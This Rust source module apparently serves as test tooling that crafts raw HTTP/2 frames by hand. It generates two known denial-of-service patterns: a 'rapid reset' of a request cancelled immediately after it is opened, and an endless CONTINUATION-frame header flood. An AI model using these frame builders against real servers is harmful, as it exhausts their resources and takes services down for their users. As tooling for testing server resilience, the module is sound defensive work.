//! HTTP/2 as somebody sends it who keeps to no rules: frames by hand.

const DATA_NOTHING: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;

/// What a client says first.
pub(crate) fn preface() -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(SETTINGS, DATA_NOTHING, 0, &[], &mut bytes);
    bytes
}

/// A request that is taken back at once.
pub(crate) fn rapid_reset(stream: u32, host: &str, out: &mut Vec<u8>) {
    frame(HEADERS, END_HEADERS, stream, &head(host), out);
    frame(RESET, DATA_NOTHING, stream, &8_u32.to_be_bytes(), out);
}

/// The head of a request that never ends: `more` frames that each bring a header.
pub(crate) fn endless_head(host: &str, more: usize) -> Vec<u8> {
    let mut out = Vec::new();
    frame(HEADERS, DATA_NOTHING, 1, &head(host), &mut out);
    for number in 0..more {
        let mut header = vec![0];
        text(&format!("x-flood-{number}"), &mut header);
        text("flood", &mut header);
        frame(CONTINUATION, DATA_NOTHING, 1, &header, &mut out);
    }
    out
}

/// GET / of a host, in HPACK: three entries of the static table and a literal.
fn head(host: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 0x84, 0x41];
    text(host, &mut block);
    block
}

fn text(text: &str, out: &mut Vec<u8>) {
    out.push(u8::try_from(text.len()).expect("short enough"));
    out.extend_from_slice(text.as_bytes());
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8], out: &mut Vec<u8>) {
    let length = u32::try_from(payload.len()).expect("short enough").to_be_bytes();
    out.extend_from_slice(&length[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}
